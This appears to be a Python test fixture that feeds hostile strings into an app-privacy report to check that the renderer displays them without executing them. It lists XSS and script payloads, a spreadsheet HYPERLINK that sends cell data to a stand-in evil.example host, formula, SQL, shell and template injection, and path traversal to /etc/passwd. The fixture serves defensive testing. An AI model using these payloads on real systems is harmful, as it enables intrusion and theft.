"""Strings that somebody could put into a report, by name: each wants to be obeyed instead of shown.

    for name, text in HOSTILE.items(): …
    lines(text), said(text)

`lines` gives a report in which one app has the string as bundle id, domain, domainOwner, context and category at once; with what `said`
tells of it, the app is judged, loses points and has changes to make, else it is asked about.
"""

from report_lines import access, at, network

from coach.catalogue import Naming, Namings

HOSTILE: dict[str, str] = {
    "markdown picture": "![x](https://evil.example/x.png)",
    "markdown picture of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "markdown link": "[click](https://evil.example/)",
    "markdown link with a title": '[click](https://evil.example/ "title")',
    "link to a script": "[click](javascript:alert(1))",
    "link to data": "[click](data:text/html,<script>alert(1)</script>)",
    "reference link": "[click][1]\n\n[1]: https://evil.example/",
    "reference picture": "![click][1]\n\n[1]: https://evil.example/x.png",
    "angle link": "<https://evil.example/>",
    "bare link": "https://evil.example/?q=1#a",
    "bare www": "www.evil.example",
    "e-mail address": "someone@evil.example",
    "footnote": "a[^1]\n\n[^1]: note",
    "emphasis": "**bold** *it* ~~gone~~ __b__ _i_",
    "code": "`code` ```\nblock\n```",
    "heading": "# heading",
    "list": "- item\n1. item\n+ item",
    "task list": "- [x] task",
    "quotation": "> said",
    "table": "|a|b|\n|-|-|\n|c|d|",
    "rule": "\n---\n***\n",
    "indented code": "\n\n    code",
    "backslashes": "\\*a\\* \\\\ \\",
    "entities": "&lt;b&gt; &#60;i&#62; &amp;",
    "html": "<b>bold</b><a href='https://evil.example/'>a</a>",
    "html picture": '<img src="https://evil.example/y.png" onerror="window.obeyed=1">',
    "html script": "<script>window.obeyed=1;alert(1)</script>",
    "html end of everything": '"></script></style></title></textarea></svg>--><script>window.obeyed=1</script>',
    "html attribute": "' onmouseover='window.obeyed=1' x='",
    "html style": "<style>*{background:url(https://evil.example/z)}</style>",
    "html comment": "<!-- comment --><!--",
    "html form": "<form action=https://evil.example/><input autofocus onfocus=window.obeyed=1>",
    "html base": "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "iframe": "<iframe src=https://evil.example/></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>parent.obeyed=1</script>"></iframe>',
    "svg": "<svg onload=window.obeyed=1><use href=https://evil.example/#x /></svg>",
    "mathml": "<math><mtext><img src=x onerror=window.obeyed=1></mtext></math>",
    "script address": "javascript:window.obeyed=1",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "formula": "$x^2$ $$\\frac{1}{2}$$",
    "formula with a link": "$\\href{https://evil.example/}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    "emoji shortcode": ":smile: :+1: :warning:",
    "icon": ":material/home: :material/delete:",
    "product icon": ":streamlit:",
    "coloured text": ":red[danger] :blue-background[x] :rainbow[y] :small[z]",
    "badge": ":red-badge[danger] :badge[x] :shortcut[Ctrl+C]",
    "directive": ":::note\nx\n::: ::leaf[x]{.y} :span[x]{onclick=window.obeyed=1}",
    "arrows": "a -> b <- c -- d >= e <= f ~= g <-> h",
    "vega field image": "image",
    "vega field path": "a.b[0]",
    "vega field datum": "datum['x']",
    "vega expression": "datum.x + event.item + (window.obeyed=1)",
    "vega tooltip": '{"image": "https://evil.example/x.png", "href": "https://evil.example/"}',
    "vega url": '{"data": {"url": "https://evil.example/d.json"}, "mark": "image"}',
    "brace fill": "{app} {0} {n} {} {{x}} {app.__class__}",
    "percent fill": "%s %d %(app)s %n 100%",
    "dollar fill": "$title ${title} $app",
    "jinja": "{{7*7}} {% for x in y %} {# z #}",
    "jinja escape": "{{ ''.__class__.__mro__ }}{% raw %}|safe",
    "rtl override": "com\u202eexe.gpj",
    "bidi isolates": "a\u2066b\u2067c\u2068d\u2069e\u200ff",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "combining flood": "Z" + "\u0301\u0316\u0489" * 40,
    "surrogate-like escapes": "\\ud83d\\ude00 \\u0000 \\x1b[31m &#xD800;",
    "nul": "a\0b",
    "terminal escapes": "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "line ends": "a\nb\rc\r\nd\u2028e\u2029f\x0bg\x0ch\x85i",
    "tags and selectors": "a\U000e0041\U000e0062b\ufe0fc",
    "fillers": "a\u3164b\u115fc\u1160d\uffa0e\u2800f\u034fg\u17b4h\u17b5i",
    "variation selectors": "a\ufe00b\ufe0ec\u180bd\u180fe\U000e0100f\U000e01efg",
    "blanks of other widths": "a\u00a0b\u2003c\u3000d\u1680e  f",
    "blanks around": " \u3000a\u00a0 ",
    "private use": "a\ue000b\U0010fffdc",
    "formula of a table, a command": "=cmd|' /C calc'!A0",
    "formula of a table, a link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula of a table, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula of a table, plus": "+1+1",
    "formula of a table, minus": "-1-1",
    "formula of a table, tab": "\t=1+1",
    "formula of a table, full width": "＝1+1",
    "formula of a table, behind blanks": " \u3000=1+1",
    "formula of a table, behind signs that can't be seen": "\u200b\u3164+1+1",
    "cells": 'a,"b";c\td',
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\C:\\Windows\\win.ini",
    "file address": "file:///etc/passwd",
    "prototype": "__proto__",
    "prototype in full": "constructor.prototype",
    "sql": "'; DROP TABLE apps; --",
    "shell": "$(touch obeyed) `id` ; id | cat && id",
    "session key": "$$ID-0-lang",
    "number": "1e999",
    "nothing": "None",
    "blank": "   ",
    "dots": "...",
    "very long word": "W" * 3000,
    "100 kB": "<b>long</b>" * 10_000,
    "chinese": "微信。隐私教练？《美团》（中国）",
    "emoji": "👩‍👩‍👧‍👦🇨🇳👍🏽",
    "arabic": "تطبيق",
    "arabic and numbers": "تطبيق 2024 (5%)",
    "arabic numbers": "١٢٣",
    "hebrew and numbers": "12 שלום 34",
    "hebrew behind latin": "Chat 7 שיחה 8",
}


def app_id(text: str) -> str:
    """A bundle id that holds the string behind a maker's name, so that iOS is not its maker."""
    return f"com.evil.{text}"


def said(text: str, name: str = "") -> Namings:
    """That the app is a game, which needs neither."""
    return {app_id(text): Naming(name=name, types=("gaming",))}


def lines(text: str, app: str = "") -> list[str]:
    """An app that looks at two things by night, and carries the string wherever a report can carry one."""
    app = app or app_id(text)
    nights = [line for day in range(7) for topic in ("location", "contacts") for line in access(app, topic, at(2, day=day))]
    contacts = network(app, text, owner=text, context=text) + network(app, f"{text}.host.example", owner=text, context=text)
    return nights + access(app, text, at(4)) + contacts
